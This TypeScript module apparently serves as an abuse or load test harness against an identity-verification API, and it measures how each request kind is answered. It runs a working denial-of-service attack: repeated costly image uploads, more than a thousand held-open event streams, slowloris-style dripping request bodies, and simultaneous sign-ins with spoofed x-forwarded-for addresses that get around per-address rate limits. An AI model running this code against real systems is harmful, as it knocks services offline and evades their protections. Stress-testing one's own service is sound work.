import { setMaxListeners } from 'node:events'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

/** What one link holder sent, by the status of the answer; `cpuMs`: the processor time of the attacker's program. */
export type Tally = Record<string, number>

export interface Attack {
  stop(): Promise<Tally>
}

/** `link`: costly pictures, streams and slow bodies of one link. `sign-ins`: people who sign in at the same moment. */
export type AttackKind = 'link' | 'sign-ins'

/** A session with its cookie, the address that its calls come from, and the pictures to send. */
export interface Target {
  kind: AttackKind
  url: string
  address: string
  cookie: string
  sessionId: string
  pictures: readonly Uint8Array[]
  /** People with this password, who sign in at the same moment. */
  usernames: readonly string[]
  password: string
}

const UPLOADS_AT_ONCE = 4
const STREAMS_AT_ONCE = 1120
const SLOW_BODIES = 50
/** After an answer, before the next call of the same kind. */
const PAUSE_MS = 20

const BOUNDARY = 'attack'

/** A multipart body, prepared once: sending it takes next to no processor time. */
function drawForm(name: string, picture: Uint8Array, fields: Record<string, string>): Buffer {
  const head = Object.entries(fields)
    .map(
      ([field, value]) =>
        `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`,
    )
    .join('')
  return Buffer.concat([
    Buffer.from(
      `${head}--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"; filename="x.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`,
    ),
    picture,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])
}

/**
 * Everything that the holder of one link can send at once, as fast as it is answered: costly pictures as document photos
 * and selfies, event streams that stay open, and bodies that drip. Or sign-ins, each from an address of its own.
 */
export function attack(target: Target): Attack {
  const { kind, url, address, cookie, sessionId, pictures, usernames, password } = target
  const tally: Tally = {}
  const stopped = new AbortController()
  const { signal } = stopped
  setMaxListeners(0, signal)
  const { hostname, port } = new URL(url)
  const agent = new Agent({ keepAlive: true, maxSockets: Infinity })
  const startedAt = process.cpuUsage()
  const count = (what: string) => (tally[what] = (tally[what] ?? 0) + 1)

  interface Call {
    what: string
    method: 'GET' | 'POST'
    path: string
    headers: Record<string, string>
    body?: Buffer
  }

  /** Resolves when the answer has ended. A stream that is accepted stays open. */
  const send = ({ what, method, path, headers, body }: Call) =>
    new Promise<void>((resolve) => {
      const length = body && { 'content-length': body.length }
      const call = request(
        { agent, hostname, port, method, path, headers: { ...headers, ...length }, signal },
        (answer) => {
          count(`${what} ${answer.statusCode}`)
          answer.resume().once('close', resolve)
        },
      )
      call.on('error', () => {
        if (!signal.aborted) count(`${what} closed`)
        resolve()
      })
      call.end(body)
    })
  async function repeat(create: (n: number) => Call, at = 0): Promise<void> {
    for (let n = at; !signal.aborted; n += 1) {
      await send(create(n))
      await wait(PAUSE_MS)
    }
  }

  const base = `/api/verification/${sessionId}`
  const customer = { cookie, 'x-forwarded-for': address }
  const form = { ...customer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }
  const documents = pictures.map((picture) => drawForm('document', picture, { documentType: 'front' }))
  const selfies = pictures.map((picture) => drawForm('selfie', picture, {}))
  // Documents are limited in number and read in the background; the check of a selfie is limited in time only.
  const upload = (at: number) =>
    repeat((n) => {
      const [what, bodies] = at % 2 === 1 ? ['selfie-check', selfies] : ['document', documents]
      const body = bodies[n % bodies.length]!
      return { what, method: 'POST', path: `${base}/${what}`, headers: form, body }
    }, at)
  const follow = () =>
    repeat(() => ({ what: 'stream', method: 'GET', path: `${base}/events`, headers: customer }))
  const signIn = (username: string, at: number) => {
    const body = Buffer.from(JSON.stringify({ username, password }))
    const headers = { 'x-forwarded-for': `198.18.254.${at + 1}`, 'content-type': 'application/json' }
    return send({ what: 'sign-in', method: 'POST', path: '/api/auth/client/login', headers, body })
  }
  function drip(): void {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.write(
      // Another call than the uploads': its limit is its own.
      `POST ${base}/liveness HTTP/1.1\r\nhost: x\r\ncookie: ${cookie}\r\ncontent-type: multipart/form-data; boundary=B\r\ncontent-length: 9000000\r\n\r\n`,
    )
    const timer = setInterval(() => socket.write('-'), 1000)
    socket.on('close', () => {
      clearInterval(timer)
      count('slow body closed')
    })
    signal.addEventListener('abort', () => socket.destroy())
  }
  const many = <T>(length: number, create: (at: number) => T) => Array.from({ length }, (_, at) => create(at))
  const running =
    kind === 'sign-ins'
      ? usernames.map(signIn)
      : [...many(UPLOADS_AT_ONCE, upload), ...many(STREAMS_AT_ONCE, follow)]
  if (kind === 'link') many(SLOW_BODIES, drip)
  return {
    async stop() {
      const { user, system } = process.cpuUsage(startedAt)
      stopped.abort()
      await Promise.all(running)
      agent.destroy()
      return { ...tally, cpuMs: Math.round((user + system) / 1000) }
    },
  }
}
